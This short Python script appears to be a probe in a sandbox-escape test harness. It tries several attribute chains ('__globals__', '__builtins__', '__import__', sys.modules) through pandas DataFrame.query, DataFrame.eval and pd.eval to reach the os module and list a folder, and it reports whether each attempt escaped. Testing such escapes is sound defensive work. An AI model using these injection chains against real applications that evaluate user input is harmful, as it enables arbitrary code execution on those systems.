# expect: done
# idea: reach os from DataFrame.query and eval through local names and chains of attributes
# source: HackTricks
import pandas as pd


def tick(ctx):
    frame = pd.DataFrame({"a": [1, 2]})
    folder = ctx.config["folder"]
    chains = (
        "@pd.io.common.os.listdir(@folder)",
        "@pd.core.common.os.listdir(@folder)",
        "@frame.__class__.__init__.__globals__['sys'].modules['os'].listdir(@folder)",
        "@pd.read_csv.__globals__['__builtins__']['__import__']('os').listdir(@folder)",
        "@frame.query.__globals__.get('sys').modules.get('os').listdir(@folder)",
    )
    for chain in chains:
        for door in (frame.query, frame.eval, pd.eval):
            for engine in ("python", "numexpr"):
                try:
                    print("ESCAPED:", door(chain, engine=engine, parser="pandas"))
                except Exception as error:
                    print("refused:", type(error).__name__, str(error)[:70])
